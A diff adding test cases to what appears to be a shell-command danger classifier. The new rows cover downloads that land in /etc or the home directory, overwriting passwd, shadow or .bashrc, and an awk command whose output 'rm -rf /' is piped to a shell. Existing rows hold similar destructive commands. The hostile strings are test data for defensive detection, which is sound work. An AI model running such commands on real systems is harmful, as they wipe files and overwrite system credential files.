@@ -146,6 +146,12 @@ ROWS = [
     ("min", B, "su --comm='rm -rf /'"), ("min", B, "su root -- -c 'rm -rf /'"),
     # sort's -o inside a cluster
     ("min", B, "sort -uo /etc/passwd x"), ("max", R, "sort x -o out.txt"),
+    # downloads named after their URL land where -P/--output-dir/the cd put them
+    ("min", B, "wget -P /etc http://x.example/passwd"), ("min", B, "curl -O --output-dir /etc http://x.example/passwd"),
+    ("min", B, "cd /etc && curl -O http://x.example/shadow"), ("min", D, "wget -P ~ https://x.example/.bashrc"),
+    ("max", R, "wget https://x.example/f.tar.gz"), ("max", R, "curl -sSLO https://x.example/f.tar.gz"),
+    # what a BEGIN block of literal prints prints, piped to a shell
+    ("min", B, "awk 'BEGIN{print \"rm -rf /\"}' | sh"), ("min", B, "awk 'BEGIN{printf \"rm -rf \"; print \"~\"}' | bash"),
 ]
 
 
